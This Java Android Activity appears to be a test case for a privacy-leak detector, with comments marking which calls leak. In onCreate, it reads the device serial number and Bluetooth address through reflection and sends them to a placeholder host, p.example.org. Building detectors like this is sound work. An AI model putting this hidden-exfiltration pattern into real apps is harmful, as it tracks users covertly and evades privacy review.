package ways;

import android.app.Activity;
import android.os.Build;
import android.os.Bundle;
import android.provider.Settings;
import java.lang.reflect.Method;
import java.net.URL;

/** Serial numbers that no call asks for by name. */
public class Props extends Activity {
    private static String prop(String name) {
        try {
            Class<?> type = Class.forName("android.os.SystemProperties");
            Method get = type.getMethod("get", String.class, String.class);
            return (String) get.invoke(null, name, "unknown");
        } catch (Exception e) {
            return "";
        }
    }

    private static String serial() {
        try {
            return (String) Build.class.getDeclaredMethod("getSerial").invoke(null);
        } catch (Exception e) {
            return Build.UNKNOWN;
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            new URL("http://p.example.org/1/" + prop("ro.serialno")).openStream(); // leak
            new URL("http://p.example.org/2/" + prop("ro.build.version.sdk")).openStream(); // no leak
            new URL("http://p.example.org/3/" + serial()).openStream(); // leak
            new URL("http://p.example.org/4/" + Settings.Secure.getString(getContentResolver(), "bluetooth_address")).openStream(); // leak
            new URL("http://p.example.org/5/" + Settings.System.getString(getContentResolver(), "screen_brightness")).openStream(); // no leak
        } catch (Exception e) {
            finish();
        }
    }
}
